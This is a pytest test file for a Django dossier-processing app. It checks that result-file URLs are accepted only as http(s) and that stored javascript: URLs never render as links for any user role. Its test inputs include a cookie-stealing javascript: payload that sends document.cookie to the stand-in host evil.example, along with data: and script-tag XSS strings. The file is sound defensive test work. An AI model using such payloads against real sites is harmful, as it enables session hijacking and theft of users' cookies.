"""A result-file URL is a link only when it is http(s): refused in the draft-result form, never rendered
otherwise (e.g. a javascript: URL stored before this rule or by an old import)."""

import re

import pytest
from django.urls import reverse

from motcua.dossiers.models import DossierResult, Proposal
from tests.workspace import processing_fixtures

world = processing_fixtures.world  # the shared fixture, used by name

pytestmark = pytest.mark.django_db

ATTACK = "javascript:fetch('//evil.example/?c='+document.cookie)"


def hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


@pytest.mark.parametrize(
    "url", [ATTACK, " JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/kq.pdf"]
)
def test_draft_result_form_refuses_a_non_http_url(client, world, url):
    dossier = world.processing(consulted=False)
    client.force_login(world.specialist)
    response = client.post(
        reverse("workspace:dossier-action", args=[dossier.code, "trinh-ket-qua"]),
        {"title": "Phiếu lý lịch tư pháp", "file_url": url},
    )
    assert response.status_code == 200
    assert "http:// hoặc https://" in response.content.decode()
    assert not Proposal.objects.filter(dossier=dossier).exists()


def test_draft_result_form_takes_an_https_url(client, world):
    dossier = world.processing(consulted=False)
    client.force_login(world.specialist)
    response = client.post(
        reverse("workspace:dossier-action", args=[dossier.code, "trinh-ket-qua"]),
        {"title": "Phiếu lý lịch tư pháp", "file_url": "https://kho.example.vn/kq/1.pdf"},
    )
    assert response.status_code == 302
    assert Proposal.objects.get(dossier=dossier).file_url == "https://kho.example.vn/kq/1.pdf"


def test_a_stored_javascript_url_is_not_a_link_for_any_role(client, world):
    dossier = world.done()
    DossierResult.objects.filter(dossier=dossier).update(file_url=ATTACK)
    safe = world.done()
    DossierResult.objects.filter(dossier=safe).update(file_url="https://kho.example.vn/kq/2.pdf")
    for user in (world.desk, world.specialist, world.leader, world.control, world.administrator):
        client.force_login(user)
        html = client.get(reverse("workspace:dossier", args=[dossier.code])).content.decode()
        assert not [h for h in hrefs(html) if "javascript" in h.lower() or "evil.example" in h]
        html = client.get(reverse("workspace:dossier", args=[safe.code])).content.decode()
        assert "https://kho.example.vn/kq/2.pdf" in hrefs(html)
